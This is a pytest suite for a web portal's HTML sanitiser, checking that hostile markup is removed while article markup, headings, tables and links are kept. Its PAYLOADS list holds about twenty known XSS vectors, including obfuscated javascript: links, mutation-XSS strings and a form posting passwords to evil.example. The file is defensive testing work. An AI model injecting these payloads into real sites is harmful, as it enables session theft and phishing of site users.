"""What survives the sanitiser, and what never does."""

import json
import os
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from portal import html

SHARED = Path(os.environ.get("SHARED_DATA") or Path(__file__).parents[3] / "shared" / "data")
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href='java\tscript:alert(1)'>да</a>",
    "<a href='&#106;avascript:alert(1)'>да</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD4=>да</a>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<math><mi//xlink:href='javascript:alert(1)'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=https://evil.example><input name=password></form>",
    "<style>@import 'https://evil.example/x.css'</style><p style='background:url(//x)'>да</p>",
    "<p hx-get=/x data-read=/x id=main class='btn secret'>да</p>",
    "<base href=https://evil.example><meta http-equiv=refresh content='0;url=//x'>",
    "<a href='https://ok.example' target=_blank onfocus=alert(1) autofocus>да</a>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<object data=x><embed src=x></object>",
    "<p>\ud800\x00да</p>",
    "<details open ontoggle=alert(1)>",
    "<h2 id=helpful>чужой якорь</h2>",
]
SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):", re.IGNORECASE)
BEFORE_A_SCHEME = "".join(map(chr, range(0x21)))


class Seen(HTMLParser):
    """Collects what a browser would see."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))


def tags_of(text: str) -> list[tuple[str, dict[str, str]]]:
    seen = Seen()
    seen.feed(text)
    seen.close()
    return seen.tags


def scheme_of(address: str) -> str:
    """Read the scheme as browsers do (WHATWG URL, 4.4): without tabs, line ends, leading controls."""
    match = SCHEME.match(re.sub(r"[\t\n\r]", "", address).lstrip(BEFORE_A_SCHEME))
    return match[1].lower() if match else ""


def assert_harmless(cleaned: str) -> None:
    for tag, attributes in tags_of(cleaned):
        assert tag in html.TAGS
        for name, value in attributes.items():
            assert name in html.ATTRIBUTES.get(tag, set()) | {"rel", "class"}
            if name in {"href", "src"}:
                assert scheme_of(value) in html.SCHEMES | {""}, value
            if name == "class":
                assert set(value.split()) <= html.CLASSES.get(tag, set())


def shared(name: str) -> list[str]:
    path = SHARED / "hostile" / name
    if not path.exists():
        pytest.skip(f"{path.name} is not here; SHARED_DATA names its folder")
    return _texts(json.loads(path.read_text()))


def _texts(found: Any) -> list[str]:
    if isinstance(found, str):
        return [found]
    parts = found.values() if isinstance(found, dict) else found
    return [text for part in parts if isinstance(part, str | list | dict) for text in _texts(part)]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_hostile_survives(payload: str) -> None:
    assert_harmless(html.clean(payload))
    assert_harmless(html.from_markdown(payload))
    assert_harmless(html.typed(payload))


@pytest.mark.parametrize(
    "name", ["owasp_xss_filter_evasion.json", "bleach_pairs.json", "blns.json"]
)
def test_the_lists_of_others_are_harmless_too(name: str) -> None:
    for payload in shared(name):
        assert_harmless(html.clean(payload))
        assert_harmless(html.from_markdown(payload))
        assert_harmless(html.typed(payload))


@given(st.text(st.sampled_from("<>/='\"& abhnop!-[]()javscrit:\t\n#`*"), max_size=120))
def test_cleaning_is_harmless_whatever_is_written_and_twice_is_as_once(text: str) -> None:
    cleaned = html.clean(text)
    assert_harmless(cleaned)
    assert html.clean(cleaned) == cleaned


def test_what_articles_need_stays() -> None:
    kept = (
        "<h2>Раздел</h2><p>Слово <b>жирно</b> <kbd>Shift</kbd></p>"
        '<figure><img src="/media/a.png" alt="Окно"><figcaption>Подпись</figcaption></figure>'
        '<table><thead><tr><th scope="col">А</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>'
        '<p class="lead">Да</p><pre><code>x &lt; y</code></pre>'
    )
    assert html.clean(kept) == kept


def test_links_out_carry_no_referrer_and_links_within_stay() -> None:
    assert 'rel="noopener noreferrer nofollow"' in html.clean('<a href="https://x.example/">x</a>')
    assert 'href="/kb/sale/"' in html.clean('<a href="/kb/sale/">x</a>')


def test_markdown_becomes_an_article_with_one_title_above_it() -> None:
    made = html.from_markdown("# Первый\n\n|а|б|\n|-|-|\n|1<br>2|~~3~~|\n\n##### Мелкий")
    assert "<h2>Первый</h2>" in made
    assert "<h4>Мелкий</h4>" in made
    assert "1<br>2" in made
    assert "<s>3</s>" in made


def test_raw_html_in_markdown_is_shown_as_typed() -> None:
    assert "&lt;u&gt;" in html.from_markdown("<u>подчёркнуто</u> и <u>ещё</u>")


def test_headings_get_addresses_of_their_own() -> None:
    body, headings = html.outline("<h2>Что это</h2><h3>Что это</h3><p>да</p>")
    assert [(one.anchor, one.level, one.title) for one in headings] == [
        ("h-что-это", 2, "Что это"),
        ("h-что-это-2", 3, "Что это"),
    ]
    assert 'id="h-что-это-2"' in body


def test_wide_tables_scroll_by_themselves() -> None:
    body, _headings = html.outline("<table><tbody><tr><td>1</td></tr></tbody></table>")
    assert body.startswith('<div class="scroll" tabindex="0"')


def test_every_part_that_scrolls_has_a_name_of_its_own() -> None:
    table = "<table><tbody><tr><td>1</td></tr></tbody></table>"
    body, _headings = html.outline(f"{table}<pre>x</pre>{table}<pre>y</pre>")
    names = [given["aria-label"] for _tag, given in tags_of(body) if "aria-label" in given]
    assert len(names) == len(set(names)) == 4


def test_plain_words_have_one_space_between_them() -> None:
    assert html.plain("<h2>Раз</h2><p>два&nbsp;&amp; <b>т</b>ри</p>") == "Раз два & три"


def test_lines_keep_paragraphs_apart() -> None:
    assert html.lines("<h2>Раз</h2>\n<p>два\nтри</p><ul><li>1</li></ul>") == "Раз\nдва три\n1"


def test_typed_text_keeps_its_lines_and_links_and_nothing_else() -> None:
    shown = html.typed("Раз\nдва https://x.example/?a=1&b=2.\n\n<b>три</b>")
    assert shown.startswith("<p>Раз<br>два <a href=")
    assert 'href="https://x.example/?a=1&amp;b=2"' in shown
    assert shown.endswith("<p>&lt;b&gt;три&lt;/b&gt;</p>")


def test_marks_are_the_only_markup_of_a_passage() -> None:
    assert html.marked("<b>{слово}</b>", "{", "}") == "&lt;b&gt;<mark>слово</mark>&lt;/b&gt;"


def test_a_bomb_of_tags_is_cleaned_in_no_time() -> None:
    assert html.clean("<b>" * 50_000)
